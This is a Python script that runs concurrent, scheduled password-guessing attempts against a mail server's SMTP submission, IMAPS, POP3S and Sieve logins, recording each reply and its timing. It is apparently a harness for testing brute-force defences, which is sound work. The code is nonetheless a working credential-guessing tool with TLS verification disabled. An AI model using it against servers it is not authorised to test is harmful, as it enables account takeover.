"""Guess passwords, as a program of an attacker's does: `python3 guess.py SERVER AT_ONCE`, attempts in JSON on standard input.

An attempt is {"door", "login", "passwords", "source", "at"}: one connection to a door from an address of this machine,
`at` seconds after the begin or later, where AT_ONCE others have not ended yet, and the passwords tried on it in turn.
Printed is for each a list of [answer, seconds until it came]; it ends where the server hung up.
"""

import base64
import json
import sched
import socket
import ssl
import sys
import time
from concurrent.futures import ThreadPoolExecutor

PORTS = {"submissions": 465, "submission": 587, "imaps": 993, "pop3s": 995, "sieve": 4190}
STARTTLS = {"submission": "STARTTLS", "sieve": "STARTTLS"}
PATIENCE = 60  # seconds
TLS = ssl._create_unverified_context()


class Connection:
    """A connection to a door, in TLS, and greeted."""

    def __init__(self, server, door, source):
        self.door = door
        self.socket = socket.create_connection((server, PORTS[door]), PATIENCE, (source, 0) if source else None)
        if door in STARTTLS:
            self.greet()
            self.say("STARTTLS")
        self.socket = TLS.wrap_socket(self.socket)
        self.stream = self.socket.makefile("rb")
        if door == "imaps":
            self.stream.readline()
        elif door != "submission":
            self.answer()
        if door.startswith("submission"):
            self.say("EHLO attacker.test")

    def greet(self):
        self.stream = self.socket.makefile("rb")
        self.answer()
        if self.door == "submission":
            self.say("EHLO attacker.test")

    def say(self, line):
        self.socket.sendall(line.encode() + b"\r\n")
        return self.answer()

    def answer(self):
        """Return the last line of an answer; an empty one where the server has hung up."""
        line = self.stream.readline()
        while line and not self.is_last(line):
            line = self.stream.readline()
        return line.decode(errors="replace").strip()

    def is_last(self, line):
        if self.door.startswith("submission"):
            return line[3:4] != b"-"
        ends = {"imaps": (b"a ", b"* BYE"), "pop3s": (b"+OK", b"-ERR"), "sieve": (b"OK", b"NO", b"BYE")}
        return line.startswith(ends[self.door])

    def sign_in(self, login, password):
        """Return the answer to a password, and how many seconds it took."""
        begin = time.perf_counter()
        answer = getattr(self, self.door.rstrip("s") if self.door.startswith("submission") else self.door)(login, password)
        return answer, time.perf_counter() - begin

    def submission(self, login, password):
        return self.say("AUTH PLAIN " + plain(login, password))

    def imaps(self, login, password):
        return self.say("a AUTHENTICATE PLAIN " + plain(login, password))

    def pop3s(self, login, password):
        self.say(f"USER {login}")
        return self.say(f"PASS {password}")

    def sieve(self, login, password):
        return self.say(f'AUTHENTICATE "PLAIN" "{plain(login, password)}"')


def plain(login, password):
    return base64.b64encode(f"\0{login}\0{password}".encode()).decode()


def attempt(server, door, login, passwords, source):
    answers = []
    try:
        connection = Connection(server, door, source)
        with connection.socket:
            for password in passwords:
                answers.append(connection.sign_in(login, password))
                if not answers[-1][0]:
                    break
    except OSError as error:
        answers.append((str(error), 0.0))
    return answers


def main():
    planned, begin, done = sched.scheduler(time.monotonic), time.monotonic(), {}
    attempts = json.load(sys.stdin)
    with ThreadPoolExecutor(int(sys.argv[2])) as threads:

        def start(number, **one):
            done[number] = threads.submit(attempt, sys.argv[1], **one)

        for number, one in enumerate(attempts):
            planned.enterabs(begin + one.pop("at"), number, start, (number,), one)
        planned.run()
        print(json.dumps([done[number].result() for number in range(len(attempts))]))


main()
